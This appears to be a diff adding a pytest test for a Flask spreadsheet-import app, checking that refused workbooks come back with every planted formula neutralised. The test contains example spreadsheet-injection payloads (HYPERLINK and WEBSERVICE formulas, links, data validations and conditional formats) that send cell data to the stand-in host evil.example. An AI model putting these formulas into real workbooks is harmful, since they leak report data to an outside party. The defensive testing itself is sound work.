@@ -11,6 +11,8 @@ import pytest
 from flask import Flask
 from flask.testing import FlaskClient
 from openpyxl import load_workbook
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.worksheet.datavalidation import DataValidation
 from sqlmodel import select
 
 from app.imports.models import ImportCommit, Upload
@@ -450,3 +452,47 @@ def test_the_cycle_collector_is_paused_only_while_a_bulk_step_runs() -> None:
         assert not gc.isenabled()  # left as it was found
     finally:
         gc.enable()
+
+
+def test_the_annotated_copy_holds_no_live_formula(app, focal, template) -> None:
+    """A refused workbook's annotated copy is served to managers and the sender: a formula the
+    sender typed (one that would send the report's data elsewhere) must come back as text."""
+    answers = valid_answers(template)
+    link = '=HYPERLINK("http://evil.example/?d="&F4,"Click to fix")'
+    row = rows_by_code(load_workbook(io.BytesIO(template)))["3.1.c"]
+
+    def plant(workbook) -> None:
+        sheet = workbook[VALUES_SHEET]
+        sheet[f"L{row}"] = link
+        sheet[f"F{row + 1}"] = "abc"
+        sheet["A1"].hyperlink = "http://evil.example/"
+        workbook["Instructions"]["B2"] = '=WEBSERVICE("http://evil.example/")'
+        sheet.add_data_validation(DataValidation(type="custom", formula1="=WEBSERVICE(F4)"))
+        sheet.conditional_formatting.add("F4", FormulaRule(formula=["WEBSERVICE(F4)"]))
+
+    response = _upload(focal, fill(template, answers, plant))
+    assert response.status_code == 422
+    upload = _latest(app)
+    annotated = focal.get(f"/uploads/{upload.id}/annotated.xlsx")
+    assert annotated.status_code == 200
+    workbook = load_workbook(io.BytesIO(annotated.data))
+    formulas = [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in workbook.worksheets
+        for line in sheet.iter_rows()
+        for cell in line
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+    values = workbook[VALUES_SHEET]
+    assert values[f"L{row}"].value == link  # what was typed, as text
+    assert values["A1"].hyperlink is None
+    assert workbook["Instructions"]["B2"].value == '=WEBSERVICE("http://evil.example/")'
+    assert values[f"L{row}"].quotePrefix  # shown as text, and kept so if edited
+    assert [v.formula1 for v in values.data_validations.dataValidation] == ['"yes,no"']
+    assert not list(values.conditional_formatting)
+    # the problem comments stay on the cells they are about
+    for problem in upload.problems:
+        if problem["cell"]:
+            comment = workbook[problem["sheet"]][problem["cell"].split(":")[0]].comment
+            assert comment is not None and problem["message"] in comment.text
